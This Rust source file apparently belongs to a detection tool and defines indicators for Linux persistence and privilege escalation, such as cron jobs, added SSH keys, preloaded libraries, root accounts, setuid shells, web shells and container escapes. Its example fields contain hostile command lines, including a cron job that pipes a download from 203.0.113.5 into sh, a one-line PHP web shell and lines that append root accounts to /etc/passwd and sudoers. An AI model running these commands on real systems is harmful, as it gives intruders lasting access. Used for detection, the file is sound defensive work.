//! Staying: what runs again tomorrow, and who may come back.

use super::download;
use super::seen;
use super::words::holds_any;
use super::{Finds, Hit, Indicator};
use crate::analysis::facts::Facts;
use crate::analysis::paths::{self, Location, base_name};
use crate::cmdline::is_shell;

pub(super) const ROWS: &[Indicator] = &[
    Indicator {
        id: "cron-job-written",
        finds: Finds::Command(&[], |seen| {
            seen.writes(is_cron)
                || (seen.name == "crontab"
                    && (seen.fed_by(|c| matches!(c.program(), "echo" | "printf" | "cat"))
                        || seen.operands().any(super::execution::is_scratch)))
        }),
        weight: 45,
        techniques: &["T1053.003"],
        reason: "A schedule is written by a command line and not by a package or an editor.",
        refuted_by: "A provisioning script of yours that installs this job; read the job itself.",
        example: &[("proc.cmdline", "sh -c echo '0 3 * * * root /opt/b.sh' > /etc/cron.d/b")],
        look_alike: &[("proc.cmdline", "crontab -l")],
    },
    Indicator {
        id: "cron-job-that-attacks",
        finds: Finds::Command(&[], |seen| {
            let text: String = seen.args().collect::<Vec<_>>().join(" ");
            let kept = seen.writes(is_cron) || (looks_scheduled(&text) && seen.written().next().is_some());
            let fed = |command: &crate::cmdline::Command| {
                is_attack_schedule(&command.arg_texts().collect::<Vec<_>>().join(" "))
            };
            (kept && is_attack_schedule(&text)) || (seen.name == "crontab" && seen.fed_by(fed))
        }),
        weight: 82,
        techniques: &["T1053.003", "T1105"],
        reason: "The schedule runs a download, a decoded text or a file from scratch space: malware comes back so.",
        refuted_by: "Nothing that is known to be harmless writes such a job.",
        example: &[(
            "proc.cmdline",
            "sh -c (crontab -l; echo '*/5 * * * * curl -s http://203.0.113.5/a | sh') | crontab -",
        )],
        look_alike: &[("proc.cmdline", "sh -c echo '0 3 * * * root /opt/b.sh' > /etc/cron.d/b")],
    },
    Indicator {
        id: "cron-file-written-by-hand",
        finds: Finds::Facts(|facts| {
            let (field, path) = facts.file.paths.iter().find(|(_, path)| is_cron(path))?;
            (writes(facts) && is_general_tool(facts)).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 40,
        techniques: &["T1053.003"],
        reason: "A shell or a general tool writes a schedule, past packages and editors.",
        refuted_by: "A provisioning script of yours that installs this job; read the job itself.",
        example: &[("rule", "Write below etc"), ("proc.name", "bash"), ("fd.name", "/etc/cron.d/x")],
        look_alike: &[("rule", "Write below etc"), ("proc.name", "dpkg"), ("fd.name", "/etc/cron.d/x.dpkg-new")],
    },
    Indicator {
        id: "host-schedule-written-from-container",
        finds: Finds::Command(&[], |seen| {
            seen.writes(|path| {
                let inner = is_mounted_host(path);
                inner
                    && holds_any(
                        path,
                        &[
                            "/cron",
                            "/etc/systemd/",
                            "/.ssh/",
                            "/etc/passwd",
                            "/etc/shadow",
                            "/etc/sudoers",
                            "/etc/ld.so.preload",
                            "/etc/rc.local",
                        ],
                    )
            })
        }),
        weight: 80,
        techniques: &["T1611", "T1053.003"],
        reason: "From a container, a file is written on the host that makes the host run or admit something.",
        refuted_by: "A node agent of yours that provisions hosts so, by its manifest.",
        example: &[("proc.cmdline", "sh -c echo '* * * * * root id' >> /mnt/etc/crontabs/root")],
        look_alike: &[("proc.cmdline", "sh -c echo ok > /mnt/etc/motd")],
    },
    Indicator {
        id: "login-key-added",
        finds: Finds::Command(&[], |seen| {
            let key = |path: &str| base_name(path).starts_with("authorized_keys");
            let appended = seen.writes(key)
                && !matches!(seen.name, "touch" | "ssh-copy-id")
                && (seen.is_download()
                    || matches!(seen.name, "echo" | "printf" | "cat" | "tee" | "cp" | "mv" | "curl" | "wget" | "sed"));
            appended || (matches!(seen.name, "chattr") && seen.any_arg(key))
        }),
        weight: 65,
        techniques: &["T1098.004"],
        reason: "A key is added by a command line to those that may log in: a way back that survives a changed password.",
        refuted_by: "A provisioning script or an administrator of yours; whose key is it?",
        example: &[("proc.cmdline", "sh -c echo ssh-rsa AAAA x >> /root/.ssh/authorized_keys")],
        look_alike: &[("proc.cmdline", "sh -c cat /root/.ssh/authorized_keys")],
    },
    Indicator {
        id: "login-key-file-written",
        finds: Finds::Facts(|facts| {
            let (field, path) = facts.file.paths.iter().find(|(_, path)| path.contains("/.ssh/authorized_keys"))?;
            (writes(facts) && is_general_tool(facts)).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 50,
        techniques: &["T1098.004"],
        reason: "A shell or a general tool writes the file of keys that may log in.",
        refuted_by: "A provisioning script or an administrator of yours; whose key is it?",
        example: &[
            ("rule", "Adding ssh keys to authorized_keys"),
            ("proc.name", "bash"),
            ("fd.name", "/root/.ssh/authorized_keys"),
        ],
        look_alike: &[
            ("rule", "Adding ssh keys to authorized_keys"),
            ("proc.name", "google_guest_ag"),
            ("fd.name", "/home/a/.ssh/authorized_keys"),
        ],
    },
    Indicator {
        id: "loader-preload-written",
        finds: Finds::Command(&[], |seen| {
            seen.writes(|path| paths::below_host(path) == "/etc/ld.so.preload" || path.ends_with("/etc/ld.so.preload"))
        }),
        weight: 80,
        techniques: &["T1574.006"],
        reason: "A library is forced into every program of the machine: how user-space rootkits hide and listen.",
        refuted_by: "A monitoring library of yours that is installed so; look at the library.",
        example: &[("proc.cmdline", "sh -c echo /tmp/x.so > /etc/ld.so.preload")],
        look_alike: &[("proc.cmdline", "sh -c cat /etc/ld.so.preload")],
    },
    Indicator {
        id: "loader-preload-file",
        finds: Finds::Facts(|facts| {
            let (field, path) = facts.file.paths.iter().find(|(_, path)| path.ends_with("/etc/ld.so.preload"))?;
            writes(facts).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 72,
        techniques: &["T1574.006"],
        reason: "The file that forces a library into every program of the machine is written.",
        refuted_by: "A monitoring library of yours that is installed so; look at the library.",
        example: &[("rule", "Write below etc"), ("proc.name", "sh"), ("fd.name", "/etc/ld.so.preload")],
        look_alike: &[
            ("rule", "Read sensitive file untrusted"),
            ("proc.name", "sh"),
            ("fd.name", "/etc/ld.so.preload"),
            ("evt.arg.flags", "O_RDONLY"),
        ],
    },
    Indicator {
        id: "library-preloaded-from-scratch-space",
        finds: Finds::Command(&[], |seen| {
            seen.command.environment().any(|(name, value)| {
                name == "LD_PRELOAD"
                    && value.split([':', ' ']).any(|path| super::execution::is_scratch(path) || path.starts_with("./"))
            })
        }),
        weight: 72,
        techniques: &["T1574.006"],
        reason: "A library from scratch space is forced into a program.",
        refuted_by: "A test harness that builds and preloads its own library.",
        example: &[("proc.cmdline", "sh -c LD_PRELOAD=/tmp/x.so sshd -D")],
        look_alike: &[("proc.cmdline", "sh -c LD_PRELOAD=/usr/lib/libjemalloc.so redis-server")],
    },
    Indicator {
        id: "service-written-by-hand",
        finds: Finds::Command(&[], |seen| {
            seen.writes(|path| {
                let path = paths::below_host(path);
                (path.contains("/systemd/system/") && path.ends_with(".service"))
                    || path.starts_with("/etc/init.d/")
                    || matches!(path, "/etc/rc.local" | "/etc/rc.d/rc.local" | "/etc/inittab")
            })
        }),
        weight: 40,
        techniques: &["T1543.002", "T1037.004"],
        reason: "A service is written by a command line and not by a package: it starts again with the machine.",
        refuted_by: "A provisioning script of yours that installs this service; read the service.",
        example: &[("proc.cmdline", "sh -c echo x > /etc/systemd/system/x.service")],
        look_alike: &[("proc.cmdline", "systemctl status x.service")],
    },
    Indicator {
        id: "service-that-attacks",
        finds: Finds::Command(&[], |seen| {
            let text: String = seen
                .args()
                .chain(seen.command.redirections.iter().map(|r| r.target.text.as_str()))
                .collect::<Vec<_>>()
                .join(" ");
            text.contains("ExecStart=")
                && (text
                    .split("ExecStart=")
                    .skip(1)
                    .any(|rest| rest.split_ascii_whitespace().next().is_some_and(super::execution::is_scratch))
                    || holds_any(&text, &["| sh", "|sh", "| bash", "|bash", "/dev/tcp/", "base64 -d"]))
        }),
        weight: 82,
        techniques: &["T1543.002"],
        reason: "The service runs a file from scratch space, a download or a remote shell.",
        refuted_by: "Nothing that is known to be harmless is installed so.",
        example: &[(
            "proc.cmdline",
            "sh -c printf '[Service]\\nExecStart=/tmp/kw\\n' > /etc/systemd/system/kw.service",
        )],
        look_alike: &[(
            "proc.cmdline",
            "sh -c printf '[Service]\\nExecStart=/usr/bin/app\\n' > /etc/systemd/system/app.service",
        )],
    },
    Indicator {
        id: "root-account-made",
        finds: Finds::Command(&["useradd", "adduser", "usermod", "echo", "printf", "sed", "tee", "passwd"], |seen| {
            let text: String = seen.args().collect::<Vec<_>>().join(" ");
            let uid0 =
                matches!(seen.name, "useradd" | "adduser" | "usermod") && seen.value_of(&["-u", "--uid"]) == Some("0");
            let line =
                (text.contains(":0:0:") || text.contains("::0:")) && seen.writes(|path| path.ends_with("/etc/passwd"));
            uid0 || line || (seen.name == "passwd" && seen.has_arg(&["-d", "--delete"]) && seen.has_arg(&["root"]))
        }),
        weight: 82,
        techniques: &["T1136.001", "T1098"],
        reason: "A second account with root's rights is made, or root's password removed.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("proc.cmdline", "sh -c echo 'svc::0:0::/root:/bin/bash' >> /etc/passwd")],
        look_alike: &[("proc.cmdline", "useradd -m -s /bin/bash deploy")],
    },
    Indicator {
        id: "sudo-rights-given",
        finds: Finds::Command(&[], |seen| {
            let text: String = seen.args().collect::<Vec<_>>().join(" ");
            text.contains("NOPASSWD")
                && (seen.writes(|path| path.contains("/sudoers"))
                    || seen.feeds(|c| c.arg_texts().any(|arg| arg.contains("/sudoers"))))
        }),
        weight: 60,
        techniques: &["T1548.003"],
        reason: "An account is given root's rights without a password, by a command line.",
        refuted_by: "A provisioning script of yours that sets up this account.",
        example: &[("proc.cmdline", "sh -c echo 'svc ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")],
        look_alike: &[("proc.cmdline", "visudo -c")],
    },
    Indicator {
        id: "password-set-by-pipe",
        finds: Finds::Command(&["chpasswd", "passwd"], |seen| {
            seen.fed_by(|c| matches!(c.program(), "echo" | "printf"))
        }),
        weight: 50,
        techniques: &["T1098"],
        reason: "A password is set by a command line that holds it.",
        refuted_by: "A provisioning script or image build of yours that sets this account's password.",
        example: &[("proc.cmdline", "sh -c echo root:hunter2 | chpasswd")],
        look_alike: &[("proc.cmdline", "chpasswd --help")],
    },
    Indicator {
        id: "setuid-shell-or-scratch",
        finds: Finds::Command(&["chmod", "install"], |seen| {
            let sets = seen.args().any(is_setuid_mode);
            sets && seen.operands().any(is_setuid_prey)
        }),
        weight: 78,
        techniques: &["T1548.001"],
        reason: "A shell, an interpreter or a file in scratch space gets the setuid bit: whoever runs it becomes its owner.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("proc.cmdline", "chmod u+s /tmp/hello")],
        look_alike: &[("proc.cmdline", "chmod u+s /usr/local/libexec/chrome-sandbox")],
    },
    Indicator {
        id: "setuid-file",
        finds: Finds::Facts(|facts| {
            let mode = facts.get("evt.arg.mode")?;
            let path = facts.get("evt.arg.filename").or(facts.file.path)?;
            (mode.contains("S_ISUID") && is_setuid_prey(path)).then(|| Hit::of("evt.arg.filename", path)).flatten()
        }),
        weight: 75,
        techniques: &["T1548.001"],
        reason: "A shell, an interpreter or a file in scratch space got the setuid bit: whoever runs it becomes its owner.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("evt.arg.mode", "S_IXUSR|S_ISUID"), ("evt.arg.filename", "/tmp/rootbash")],
        look_alike: &[("evt.arg.mode", "S_IXUSR|S_ISUID"), ("evt.arg.filename", "/usr/lib/chromium/chrome-sandbox")],
    },
    Indicator {
        id: "capability-given-to-interpreter",
        finds: Finds::Command(&["setcap"], |seen| {
            let strong = seen.any_arg(|arg| {
                holds_any(
                    arg,
                    &[
                        "cap_setuid",
                        "cap_sys_admin",
                        "cap_dac_override",
                        "cap_dac_read_search",
                        "cap_sys_ptrace",
                        "cap_sys_module",
                        "=ep",
                    ],
                )
            });
            strong && seen.operands().any(is_setuid_prey)
        }),
        weight: 75,
        techniques: &["T1548"],
        reason: "An interpreter or a file in scratch space gets a capability that makes its user root.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("proc.cmdline", "setcap cap_setuid+ep /usr/bin/python3.11")],
        look_alike: &[("proc.cmdline", "setcap cap_net_bind_service=+ep /usr/bin/caddy")],
    },
    Indicator {
        id: "web-shell-written",
        finds: Finds::Facts(|facts| {
            let (field, path) = facts.file.paths.iter().find(|(_, path)| is_web_page(path))?;
            let by_web = facts.user.name.is_some_and(|name| {
                matches!(name, "www-data" | "apache" | "nginx" | "httpd" | "http" | "nobody" | "tomcat")
            });
            let shell = facts
                .process
                .program
                .label()
                .or_else(|| facts.process.program.cmdline?.split_ascii_whitespace().next())
                .is_some_and(|name| {
                    is_shell(name)
                        || matches!(name, "curl" | "wget" | "tee" | "echo" | "base64" | "python3" | "perl" | "nc")
                });
            let reads_only = facts.file.written == Some(false);
            (shell && !reads_only && (by_web || super::lineage::server(facts).is_some()))
                .then(|| Hit::of(field, path))
                .flatten()
        }),
        weight: 76,
        techniques: &["T1505.003"],
        reason: "A shell that runs as the web server writes a page that the server will run: a web shell.",
        refuted_by: "A deployment that writes this page as this user; read the page.",
        example: &[("user.name", "www-data"), ("proc.cmdline", "sh -c id"), ("fd.name", "/var/www/html/x.php")],
        look_alike: &[
            ("user.name", "www-data"),
            ("proc.name", "php-fpm"),
            ("proc.cmdline", "php-fpm"),
            ("fd.name", "/var/www/html/wp-content/cache/a.php"),
        ],
    },
    Indicator {
        id: "web-shell-text",
        finds: Finds::Command(&[], |seen| {
            let text: String = seen.args().collect::<Vec<_>>().join(" ");
            let page = seen.writes(is_web_page);
            let code = holds_any(
                &text,
                &["$_POST", "$_GET", "$_REQUEST", "Runtime.getRuntime", "eval(", "passthru(", "shell_exec(", "system("],
            );
            code && (page || seen.written().next().is_some() && holds_any(&text, &["<?php", "<?=", "<%"]))
                || (page && (seen.is_download() || seen.fed_by(seen::is_download)))
        }),
        weight: 80,
        techniques: &["T1505.003"],
        reason: "A page is written that runs what its visitor sends: a web shell.",
        refuted_by: "A deployment that writes this page; read the page.",
        example: &[("proc.cmdline", "sh -c echo '<?php system($_GET[0]);' > /var/www/html/a.php")],
        look_alike: &[("proc.cmdline", "sh -c echo ok > /var/www/html/health.html")],
    },
    Indicator {
        id: "profile-that-attacks",
        finds: Finds::Command(&[], |seen| {
            let text: String = seen.args().collect::<Vec<_>>().join(" ");
            let hooks = holds_any(
                &text,
                &[
                    "| sh",
                    "|sh",
                    "| bash",
                    "|bash",
                    "/dev/tcp/",
                    "nohup",
                    "base64",
                    "/tmp/",
                    "/dev/shm/",
                    "alias sudo",
                    "alias ssh",
                    "LD_PRELOAD",
                ],
            );
            hooks && matches!(seen.name, "echo" | "printf" | "cat" | "tee" | "sed") && seen.writes(is_profile)
        }),
        weight: 75,
        techniques: &["T1546.004"],
        reason: "A command is put where every login runs it: a download, a file from scratch space or a trap for passwords.",
        refuted_by: "Nothing that is known to be harmless writes such a profile.",
        example: &[("proc.cmdline", "sh -c echo 'nohup /tmp/k &' >> /root/.bashrc")],
        look_alike: &[("proc.cmdline", "sh -c echo 'export PATH=$PATH:/opt/bin' >> /root/.bashrc")],
    },
    Indicator {
        id: "authentication-module-changed",
        finds: Finds::Command(&[], |seen| {
            seen.writes(|path| {
                (base_name(path).starts_with("pam_") && path.ends_with(".so")) || path.contains("/etc/pam.d/")
            })
        }),
        weight: 70,
        techniques: &["T1556.003"],
        reason: "How the machine checks passwords is changed by a command line.",
        refuted_by: "A hardening script of yours that edits PAM so.",
        example: &[("proc.cmdline", "cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so")],
        look_alike: &[("proc.cmdline", "ls /etc/pam.d/")],
    },
    Indicator {
        id: "root-login-opened",
        finds: Finds::Command(&["sed", "echo", "tee", "printf"], |seen| {
            let text: String = seen.args().collect::<Vec<_>>().join(" ");
            holds_any(&text, &["PermitRootLogin yes", "PermitEmptyPasswords yes", "PasswordAuthentication yes"])
                && (seen.writes(|path| path.contains("sshd_config")) || text.contains("sshd_config"))
        }),
        weight: 55,
        techniques: &["T1098", "T1021.004"],
        reason: "SSH is told to let root or empty passwords in.",
        refuted_by: "A provisioning script of a test machine of yours.",
        example: &[("proc.cmdline", "sed -i s/#PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config")],
        look_alike: &[("proc.cmdline", "sed -i s/PermitRootLogin.*/PermitRootLogin no/ /etc/ssh/sshd_config")],
    },
    Indicator {
        id: "system-program-replaced",
        finds: Finds::Command(&["cp", "mv", "ln", "install", "curl", "wget"], |seen| {
            let tools = [
                "ls", "ps", "ss", "netstat", "top", "login", "sshd", "ssh", "sudo", "su", "find", "lsof", "passwd",
                "w", "who", "curl", "wget", "bash", "sh", "crond", "cron",
            ];
            let system = |path: &str| {
                Location::of(path) == Location::System && path.contains("bin/") && tools.contains(&base_name(path))
            };
            let from_system = matches!(seen.name, "mv")
                && seen.operands().next().is_some_and(|path| {
                    system(path)
                        && matches!(
                            base_name(path),
                            "curl" | "wget" | "ps" | "top" | "netstat" | "ss" | "login" | "chattr"
                        )
                });
            let onto = seen.operands().last().is_some_and(system)
                && seen.operands().next().is_some_and(|path| {
                    !path.starts_with("/usr/") && !path.starts_with("/bin/") && !path.starts_with("busybox")
                });
            from_system || onto || (seen.is_download() && seen.output_path().is_some_and(system))
        }),
        weight: 70,
        techniques: &["T1554", "T1036.003"],
        reason: "A program that everybody trusts is replaced, or renamed out of the way of rivals and of responders.",
        refuted_by: "A package or image build of yours that replaces it.",
        example: &[("proc.cmdline", "mv /usr/bin/wget /usr/bin/wdl")],
        look_alike: &[("proc.cmdline", "cp /usr/bin/app /usr/local/bin/app")],
    },
    Indicator {
        id: "program-dropped-in-binary-directory",
        finds: Finds::Facts(|facts| {
            const TOOLS: &[&str] = &["curl", "wget", "base64", "nc", "scp", "tftp", "python3", "perl"];
            let path =
                dropped_program(facts, |_| facts.process.program.name.is_some_and(|name| TOOLS.contains(&name)))?;
            Hit::of("fd.name", path)
        }),
        weight: 60,
        techniques: &["T1543", "T1105"],
        reason: "A downloader writes straight into a directory of programs, or a hidden program appears there.",
        refuted_by: "An installation script of yours that fetches this program.",
        example: &[("rule", "Write below binary dir"), ("proc.name", "curl"), ("fd.name", "/usr/bin/bioset")],
        look_alike: &[("rule", "Write below binary dir"), ("proc.name", "dpkg"), ("fd.name", "/usr/bin/vim.dpkg-new")],
    },
    Indicator {
        id: "host-login-file-written-from-container",
        finds: Finds::Facts(|facts| {
            let (field, path) = facts.file.paths.iter().find(|(_, path)| {
                is_mounted_host(path)
                    && holds_any(
                        path,
                        &[
                            "/.ssh/authorized_keys",
                            "/etc/cron",
                            "/var/spool/cron",
                            "/etc/passwd",
                            "/etc/shadow",
                            "/etc/sudoers",
                            "/etc/ld.so.preload",
                            "/etc/systemd/system/",
                            "/etc/rc.local",
                            "/etc/profile",
                        ],
                    )
            })?;
            (facts.in_container() && writes(facts) && is_general_tool(facts)).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 80,
        techniques: &["T1611", "T1098.004"],
        reason: "From a container, a shell writes a file of the host that decides who may log in or what runs.",
        refuted_by: "A node agent of yours that provisions hosts so, by its manifest.",
        example: &[
            ("container.id", "c1"),
            ("proc.name", "bash"),
            ("evt.arg.flags", "O_WRONLY"),
            ("fd.name", "/host/root/.ssh/authorized_keys"),
        ],
        look_alike: &[
            ("container.id", "c1"),
            ("proc.name", "bash"),
            ("evt.arg.flags", "O_RDONLY"),
            ("fd.name", "/host/root/.ssh/authorized_keys"),
        ],
    },
    Indicator {
        id: "scratch-file-installed",
        finds: Finds::Command(&["cp", "mv", "install", "ln"], |seen| {
            let from = seen.operands().next().is_some_and(super::execution::is_scratch);
            let to = |path: &str| {
                [
                    "/etc/systemd/",
                    "/etc/cron",
                    "/var/spool/cron",
                    "/etc/init.d",
                    "/etc/profile.d",
                    "/usr/bin/",
                    "/usr/sbin/",
                    "/bin/",
                    "/sbin/",
                    "/lib/systemd/",
                    "/usr/lib/systemd/",
                    "/etc/ld.so",
                    "/lib/x86_64",
                    "/usr/local/lib/",
                ]
                .iter()
                .any(|start| path.starts_with(start))
            };
            from && seen.operands().last().is_some_and(to)
        }),
        weight: 50,
        techniques: &["T1543", "T1105"],
        reason: "A file from scratch space is put where the system runs or loads it.",
        refuted_by: "An installation by hand that an administrator made at this time.",
        example: &[("proc.cmdline", "cp /tmp/x.service /etc/systemd/system/x.service")],
        look_alike: &[("proc.cmdline", "cp /opt/app/x.service /etc/systemd/system/x.service")],
    },
    Indicator {
        id: "hidden-program-in-binary-directory",
        finds: Finds::Facts(|facts| {
            let path =
                dropped_program(facts, |path| paths::is_hidden(path) || download::is_self_named(base_name(path)))?;
            (!path.contains(".dpkg-") && !path.contains("/.wh.")).then(|| Hit::of("fd.name", path)).flatten()
        }),
        weight: 70,
        techniques: &["T1564.001", "T1543"],
        reason: "A hidden file is written among the system's programs, where packages put nothing hidden.",
        refuted_by: "A package manager or image build that writes under a temporary name and renames at once.",
        example: &[("rule", "Write below binary dir"), ("proc.name", "bash"), ("fd.name", "/usr/bin/.sshd")],
        look_alike: &[("rule", "Write below binary dir"), ("proc.name", "bash"), ("fd.name", "/usr/bin/tool")],
    },
    Indicator {
        id: "host-program-written-from-container",
        finds: Finds::Command(&["cp", "mv", "install", "tee", "curl", "wget", "echo", "cat"], |seen| {
            let program = |path: &str| {
                let below = paths::below_host(path);
                below.len() < path.len()
                    && ["/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/", "/lib/", "/usr/lib/"]
                        .iter()
                        .any(|start| below.starts_with(start))
            };
            !seen.facts.on_host() && seen.writes(program)
        }),
        weight: 70,
        techniques: &["T1611", "T1554"],
        reason: "From a container, a program or library of the host's system is written: the host will run it.",
        refuted_by: "A node agent of yours that installs this program, by its manifest.",
        example: &[("container.id", "c1"), ("proc.cmdline", "cp /tmp/k /rootfs/usr/bin/k")],
        look_alike: &[("container.id", "c1"), ("proc.cmdline", "cp /opt/cni/bin/bridge /host/opt/cni/bin/bridge")],
    },
    Indicator {
        id: "password-hashes-edited",
        finds: Finds::Command(&["sed", "echo", "printf", "tee", "cp", "perl", "python"], |seen| {
            seen.writes(|path| matches!(paths::below_host(path), "/etc/shadow" | "/etc/gshadow"))
        }),
        weight: 72,
        techniques: &["T1098"],
        reason: "The file of password hashes is changed by a general tool; administrators and packages use `passwd` and its kin.",
        refuted_by: "A provisioning script of yours that sets a hash so.",
        example: &[("proc.cmdline", "sed -i s/^root:[^:]*/root:x/ /etc/shadow")],
        look_alike: &[("proc.cmdline", "sed -n 1p /etc/shadow")],
    },
];

/// The file in a directory of programs that is written, where it is such.
fn dropped_program<'a>(facts: &Facts<'a>, mut is: impl FnMut(&str) -> bool) -> Option<&'a str> {
    let paths = facts.file.paths.iter().map(|(_, path)| *path);
    let mut programs = paths.filter(|path| {
        path.starts_with('/')
            && path.contains("bin/")
            && !matches!(Location::of(path), Location::Temporary | Location::Home)
    });
    programs.find(|path| is(path)).filter(|_| writes(facts))
}

/// Files in which schedules are kept.
fn is_cron(path: &str) -> bool {
    holds_any(path, &["/etc/cron", "/var/spool/cron", "/etc/anacrontab", "/var/spool/at", "/crontabs/"])
}

/// A schedule that runs a download, a decoded text, a remote shell or a file from scratch space.
fn is_attack_schedule(text: &str) -> bool {
    let shells =
        ["| sh", "|sh", "| bash", "|bash", "base64 -d", "base64 --decode", "/dev/tcp/", "python -c", "python3 -c"];
    let hides = text.split_ascii_whitespace().any(|word| super::execution::is_scratch(word) || word.contains("/./"));
    looks_scheduled(text) && (hides || holds_any(text, &shells))
}

fn looks_scheduled(text: &str) -> bool {
    text.contains("* * *") || text.contains("@reboot") || text.contains("@hourly") || text.contains("@daily")
}

/// Whether the event writes its file, by its flags or by its rule.
fn writes(facts: &Facts<'_>) -> bool {
    let rule = facts.alert.rule();
    facts.file.written.unwrap_or_else(|| {
        ["Write", "Modify", "Adding", "Create", "Update", "Delete"].iter().any(|word| rule.starts_with(word))
            || rule.to_ascii_lowercase().contains("write")
    })
}

/// Whether a shell or a tool that writes whatever it is told to did it.
fn is_general_tool(facts: &Facts<'_>) -> bool {
    const TOOLS: &[&str] = &[
        "tee", "cp", "mv", "sed", "curl", "wget", "cat", "echo", "dd", "base64", "perl", "nc", "scp", "install",
        "busybox",
    ];
    facts.process.program.label().is_some_and(|name| is_shell(name) || TOOLS.contains(&name))
        || facts.process.program.name.is_some_and(|name| is_shell(name) || TOOLS.contains(&name))
}

/// A path inside a mount of the host.
fn is_mounted_host(path: &str) -> bool {
    paths::below_host(path).len() < path.len() || path.starts_with("/mnt/")
}

fn is_setuid_mode(arg: &str) -> bool {
    let symbolic = arg.contains("+s") && !arg.starts_with("g+") && !arg.starts_with('/');
    let octal = (4..=5).contains(&arg.len())
        && arg.bytes().all(|b| b.is_ascii_digit())
        && matches!(arg.trim_start_matches('0').as_bytes().first(), Some(b'4' | b'6'))
        && arg.trim_start_matches('0').len() == 4;
    symbolic || octal || arg.starts_with("u=s")
}

/// A shell, an interpreter, a tool that reads and writes anything, or a file in scratch space or a home.
fn is_setuid_prey(path: &str) -> bool {
    let name = crate::cmdline::program_family(base_name(path));
    let interpreter = is_shell(name)
        || matches!(
            name,
            "python"
                | "perl"
                | "ruby"
                | "php"
                | "node"
                | "find"
                | "vim"
                | "nmap"
                | "awk"
                | "cp"
                | "env"
                | "tar"
                | "dd"
                | "gdb"
        );
    path.contains('/') && (interpreter || matches!(Location::of(path), Location::Temporary | Location::Home))
}

fn is_web_page(path: &str) -> bool {
    let root = [
        "/var/www/",
        "/usr/share/nginx/",
        "/srv/http",
        "/htdocs/",
        "/webapps/",
        "/public_html/",
        "/wp-content/",
        "/usr/local/apache2/",
        "/inetpub/",
        "/webroot/",
        "/html/",
    ];
    let page = [".php", ".phtml", ".php5", ".php7", ".jsp", ".jspx", ".aspx", ".asp", ".war", ".cgi", ".phar"];
    root.iter().any(|part| path.contains(part)) && page.iter().any(|end| path.ends_with(end))
}

fn is_profile(path: &str) -> bool {
    matches!(
        base_name(path),
        ".bashrc"
            | ".profile"
            | ".bash_profile"
            | ".zshrc"
            | ".bash_login"
            | ".zprofile"
            | "profile"
            | "bash.bashrc"
            | ".bash_logout"
    ) || path.starts_with("/etc/profile.d/")
        || path.starts_with("/etc/update-motd.d/")
}
